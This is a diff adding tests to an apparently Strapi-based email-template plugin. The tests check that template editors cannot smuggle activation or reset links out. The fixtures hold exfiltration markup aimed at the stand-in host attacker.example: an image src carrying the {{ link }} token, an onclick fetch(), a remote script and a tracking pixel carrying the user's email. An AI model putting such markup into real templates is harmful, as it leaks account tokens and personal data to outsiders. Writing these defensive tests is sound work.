@@ -15,6 +15,7 @@ import {
   type AdminSession,
 } from '../helpers/actors';
 import { activationApi, USER_UID } from '../helpers/activation';
+import { recheckStoredTemplates } from '@server/migrations/recheck-stored-templates';
 import { sealStoredLinkTokens } from '@server/migrations/seal-stored-link-tokens';
 import { databaseText, tablesHolding } from '../helpers/database-dump';
 import {
@@ -629,6 +630,97 @@ describe('production trust', () => {
         expect(JSON.stringify(committed.body)).not.toMatch(/insert into|up_users/);
       } finally {
         writer.createMany = createMany;
+      }
+    });
+  });
+
+  describe('templates cannot carry links elsewhere', () => {
+    const TEMPLATE = '/user-communication/templates/activation/en';
+    const ATTACKER = 'attacker.example';
+    const storedActivation = () =>
+      app.strapi.db
+        .query('plugin::user-communication.template')
+        .findOne({ where: { type: 'activation', locale: 'en' } });
+    // Review finding F6: the role that can do no more than edit templates.
+    const templateEditor = async () =>
+      createAdmin(app, {
+        roleIds: [await createAdminRole(app, ['plugin::user-communication.templates.update'])],
+      });
+
+    it('a template stored before the rules (or behind the API) is checked at boot: a misplaced link reverts it to the default', async () => {
+      await app.strapi.db.query('plugin::user-communication.template').create({
+        data: {
+          type: 'password-reset',
+          locale: 'da',
+          subject: 'Nulstil',
+          html: `<p><img src="https://${ATTACKER}/p?{{ link }}"><a href="{{ link }}">Nulstil</a></p>`,
+          text: 'Nulstil: {{ link }}',
+        },
+      });
+      await recheckStoredTemplates(app.strapi as never);
+      const stored = await app.strapi.db
+        .query('plugin::user-communication.template')
+        .findOne({ where: { type: 'password-reset', locale: 'da' } });
+      expect(stored).toBeNull();
+    });
+
+    it('an editor of templates cannot put the link in an image or the subject: 400, nothing saved', async () => {
+      const editor = await templateEditor();
+      const before = await storedActivation();
+      const attempts = [
+        {
+          edit: { html: `<p>Welcome</p><img src="https://${ATTACKER}/p?{{ link }}">` },
+          path: 'html',
+          place: 'not in the src of <img>',
+        },
+        { edit: { subject: 'Activate: {{link}}' }, path: 'subject', place: 'not in the subject' },
+      ];
+      for (const { edit, path, place } of attempts) {
+        const response = await adminApi('put', TEMPLATE, editor).send({
+          subject: 'Activate your account',
+          html: '<p><a href="{{ link }}">Activate</a></p>',
+          text: 'Activate: {{ link }}',
+          ...edit,
+        });
+        expect(response.status).toBe(400);
+        expect(response.body.error.name).toBe('ValidationError');
+        expect(response.body.error.message).toContain(place);
+        expect(response.body.error.details.errors[0].path).toEqual([path]);
+      }
+      expect(await storedActivation()).toEqual(before);
+    });
+
+    it('a script, a handler and a remote image are stored without them, and the mail loads nothing', async () => {
+      const editor = await templateEditor();
+      const saved = await adminApi('put', TEMPLATE, editor).send({
+        subject: 'Activate your account',
+        html:
+          `<p onclick="fetch('https://${ATTACKER}/c')">Hello {{ username }}</p>` +
+          `<script src="https://${ATTACKER}/s.js"></script>` +
+          `<img src="https://${ATTACKER}/pixel.png?u={{ email }}">` +
+          '<p><a href="{{ link }}">Activate</a></p>',
+        text: 'Activate: {{ link }}',
+      });
+      try {
+        expect(saved.status).toBe(200);
+        expect((await storedActivation()).html).toBe(
+          '<p>Hello {{ username }}</p><p><a href="{{ link }}">Activate</a></p>'
+        );
+        const created = newUserInput('template');
+        await adminApi('post', CM_USERS).send({
+          username: created.username,
+          email: created.email,
+          role: await authenticatedRoleId(app),
+        });
+        const mail = await activationMailTo(app, created.email);
+        expect(mail.html).not.toContain(ATTACKER);
+        expect(mail.html).not.toMatch(/<(?:img|script|link|iframe|style)\b|\son\w+=|src=|url\(/i);
+        // The token is in the mail once, in the href of its link.
+        const token = tokenFromMail(mail);
+        expect(mail.html.split(token)).toHaveLength(2);
+        expect(mail.html).toMatch(new RegExp(`<a href="[^"]*${token}[^"]*">Activate</a>`));
+      } finally {
+        await app.http().delete(TEMPLATE).set('Authorization', admin.auth);
       }
     });
   });
